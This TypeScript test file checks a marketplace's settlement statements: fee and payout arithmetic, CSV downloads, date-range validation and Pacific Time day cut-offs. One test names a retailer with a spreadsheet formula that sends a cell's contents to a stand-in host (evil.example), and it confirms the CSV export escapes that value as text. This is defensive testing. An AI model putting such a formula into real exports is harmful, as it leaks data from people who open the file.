import { parse } from 'csv-parse/sync';
import { DataSource } from 'typeorm';
import { SESSION_COOKIE } from '../src/auth/auth.decorators';
import { addLocation, makeDealer, northOf, PORTLAND, shippedByShop } from './support/board';
import { Account, bearer, createManufacturer, createOps, createRetailer, Tenant } from './support/factories';
import { createProduct, placeOrder, storeSlugOf } from './support/marketplace';
import { startTestApp, TestApp } from './support/test-app';

// From yesterday to the day after tomorrow: what was shipped in the test is in it.
const period = `from=${new Date(Date.now() - 86_400_000).toISOString().slice(0, 10)}&to=${new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10)}`;
const session = (token: string) => ({ Cookie: `${SESSION_COOKIE}=${token}` });
const PARCEL = { carrier: 'USPS', trackingNumber: '9400 1000 0000 0000 0000 00' };

/** In `t`: `shopName`, a dealer near Portland, won one order (1,500.00; fulfilment price 1,200.00) and shipped it. */
async function oneShippedOrder(t: TestApp, shopName: string) {
  const ops = await createOps(t);
  const maker = await createManufacturer(t, ops);
  const shop = await createRetailer(t, ops, shopName);
  await addLocation(t, shop, northOf(PORTLAND, 3)); // Portland: Pacific Time
  await makeDealer(t, maker, shop);
  const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
  const order = await placeOrder(t, await storeSlugOf(t, maker), { lines: [{ sku: product.sku }] });
  await shippedByShop(t, ops, maker, shop, order.id, PARCEL);
  return { maker, shop, order };
}

describe('settlement statements', () => {
  let t: TestApp;
  let ops: Account;
  let maker: Tenant;
  let shop: Tenant;

  // Worked example: the customer pays 1,500.00; the fulfilment price is 1,200.00; the fee is 9.5% + 1.29 = 115.29.
  beforeAll(async () => {
    t = await startTestApp();
    ops = await createOps(t);
    maker = await createManufacturer(t, ops, 'Ridge Golf');
    shop = await createRetailer(t, ops, 'Fairway Shop');
    await addLocation(t, shop, northOf(PORTLAND, 3));
    await makeDealer(t, maker, shop);
    const product = await createProduct(t, maker, { priceMinor: 150_000, fulfilmentPriceMinor: 120_000 });
    const slug = await storeSlugOf(t, maker);
    const byShop = await placeOrder(t, slug, { lines: [{ sku: product.sku }] });
    const byMaker = await placeOrder(t, slug, { lines: [{ sku: product.sku }] });
    await shippedByShop(t, ops, maker, shop, byShop.id, PARCEL);
    await t.http.post(`/api/v1/manufacturer/orders/${byMaker.id}/shipments`).set(bearer(maker.admin.token)).send(PARCEL).expect(200);
  });
  afterAll(() => t.close());

  it('owes the retailer the fulfilment price less the platform fee', async () => {
    const { body } = await t.http.get(`/api/v1/retailer/statements?${period}`).set(bearer(shop.admin.token)).expect(200);
    expect(body).toMatchObject({ party: 'retailer', name: 'Fairway Shop', feeRule: '9.5% + $1.29, at most the fulfilment price' });
    expect(body.lines).toEqual([
      expect.objectContaining({
        fulfilledBy: 'Fairway Shop',
        totalMinor: 150_000,
        payoutMinor: 120_000,
        feeMinor: 11_529,
        fulfillerNetMinor: 108_471,
        receivesMinor: 108_471,
      }),
    ]);
    expect(body.totals).toEqual([
      { currency: 'USD', feeRule: '9.5% + $1.29, at most the fulfilment price', orders: 1, feeMinor: 11_529, receivesMinor: 108_471 },
    ]);
  });

  it('lets the manufacturer keep the rest, and the fulfiller share too when it shipped itself', async () => {
    const { body } = await t.http.get(`/api/v1/manufacturer/statements?${period}`).set(bearer(maker.admin.token)).expect(200);
    const byFulfiller = Object.fromEntries(body.lines.map((line: { fulfilledBy: string }) => [line.fulfilledBy, line]));
    expect(byFulfiller['Fairway Shop']).toMatchObject({ manufacturerShareMinor: 30_000, receivesMinor: 30_000 });
    expect(byFulfiller.manufacturer).toMatchObject({ feeMinor: 11_529, receivesMinor: 150_000 - 11_529 });
    expect(body.totals).toEqual([
      { currency: 'USD', feeRule: '9.5% + $1.29, at most the fulfilment price', orders: 2, feeMinor: 23_058, receivesMinor: 30_000 + 138_471 },
    ]);
  });

  it('gives the same statement as CSV, and nothing outside the period', async () => {
    const csv = await t.http.get(`/api/v1/retailer/statements/csv?${period}`).set(bearer(shop.admin.token)).expect(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const [header, line, end] = csv.text.split('\n');
    expect(header).toBe(
      'orderNumber,shippedAt,currency,fulfilledBy,totalMinor,payoutMinor,feeMinor,fulfillerNetMinor,manufacturerShareMinor,receivesMinor,kind,returnReceivedAt,payoutId,payoutStatus,payoutPaidAt',
    );
    // Not paid out yet: the payout columns are empty.
    expect(line).toMatch(/^\d+,\d{4}-.+Z,USD,Fairway Shop,150000,120000,11529,108471,30000,108471,order,,,,$/);
    expect(end).toBe('');

    const past = await t.http.get('/api/v1/retailer/statements?from=2020-01-01&to=2020-02-01').set(bearer(shop.admin.token)).expect(200);
    expect(past.body.lines).toEqual([]);
    const backwards = await t.http.get('/api/v1/retailer/statements?from=2020-02-01&to=2020-01-01').set(bearer(shop.admin.token)).expect(400);
    expect(backwards.body.message).toMatch(/from must be before to/);
    await t.http.get('/api/v1/retailer/statements?from=yesterday&to=2020-01-01').set(bearer(shop.admin.token)).expect(400);
  });
});

describe('statement CSV downloads and spreadsheet formulas', () => {
  let t: TestApp;
  let maker: Tenant;
  let shop: Tenant;
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

  beforeAll(async () => {
    t = await startTestApp();
    ({ maker, shop } = await oneShippedOrder(t, formula));
  });
  afterAll(() => t.close());

  it('writes a retailer named as a formula as text in every statement CSV, and keeps the amounts numbers', async () => {
    const downloads = [
      t.http.get(`/api/v1/manufacturer/statements/csv?${period}`).set(bearer(maker.admin.token)),
      t.http.get(`/manufacturer/statement/csv?${period}`).set(session(maker.admin.token)),
      t.http.get(`/api/v1/retailer/statements/csv?${period}`).set(bearer(shop.admin.token)),
      t.http.get(`/retailer/statement/csv?${period}`).set(session(shop.admin.token)),
    ];
    for (const download of await Promise.all(downloads)) {
      expect(download.status).toBe(200);
      expect(download.headers['content-type']).toMatch(/^text\/csv/);
      const [row] = parse<Record<string, string>>(download.text, { columns: true });
      expect(row.fulfilledBy).toBe(`'${formula}`);
      expect(row.totalMinor).toBe('150000');
      expect(Number(row.receivesMinor)).toBeGreaterThan(0);
    }
  });
});

describe('statement days in the workspace', () => {
  let t: TestApp;
  let shop: Tenant;
  let orderNumber: string;
  const NOVEMBER = 'from=2026-11-01&to=2026-12-01';
  const DECEMBER = 'from=2026-12-01&to=2027-01-01';

  beforeAll(async () => {
    t = await startTestApp();
    const shipped = await oneShippedOrder(t, 'Late Night Cycles');
    shop = shipped.shop;
    // Shipped at 23:30 on November 30 in Portland, which is already December 1 in UTC.
    await t.app.get(DataSource).query(`UPDATE shipments SET shipped_at = '2026-11-30T23:30:00-08:00' WHERE order_id = $1`, [shipped.order.id]);
    orderNumber = String(shipped.order.number);
  });
  afterAll(() => t.close());

  it('puts an order shipped at 23:30 local time in that local day, on the page', async () => {
    const november = await t.http.get(`/retailer/statement?${NOVEMBER}`).set(session(shop.admin.token)).expect(200);
    expect(november.text).toContain(`#${orderNumber}`);
    expect(november.text).toContain('Nov 30, 2026, 11:30 PM PST');
    expect(november.text).toContain('Days run from midnight Pacific Time');
    const december = await t.http.get(`/retailer/statement?${DECEMBER}`).set(session(shop.admin.token)).expect(200);
    expect(december.text).not.toContain(`#${orderNumber}`);
  });

  it('cuts the downloaded CSV at the same local midnight', async () => {
    const rows = async (query: string): Promise<Record<string, string>[]> => {
      const csv = await t.http.get(`/retailer/statement/csv?${query}`).set(session(shop.admin.token)).expect(200);
      return parse(csv.text, { columns: true });
    };
    expect((await rows(NOVEMBER)).map((r) => r.orderNumber)).toEqual([orderNumber]);
    expect(await rows(DECEMBER)).toEqual([]);
  });
});
